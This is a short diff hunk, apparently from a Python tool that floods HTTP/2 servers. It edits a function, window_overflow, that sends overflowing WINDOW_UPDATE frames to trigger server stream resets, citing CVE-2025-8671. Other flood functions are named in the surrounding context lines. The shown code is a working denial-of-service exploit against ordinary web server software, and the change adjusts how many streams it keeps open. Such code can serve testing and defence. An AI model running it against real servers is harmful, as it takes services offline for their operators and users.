@@ -34,7 +34,8 @@ def reset_running_calls(address, turns=30_000):
 def window_overflow(address, turns=2_000):
     """CVE-2025-8671: a WINDOW_UPDATE makes the server reset the stream."""
     overflow = struct.pack(">I", 0x7FFFFFFF)
-    return flood(address, lambda n: _open(n) + frame(WINDOW_UPDATE, 0, 2 * n + 1, overflow), turns)
+    return flood(
+        address, lambda n: _open(n) + frame(WINDOW_UPDATE, 0, 2 * n + 1, overflow), turns, open_max=100)
 
 
 def wrong_content_length(address, turns=2_000):
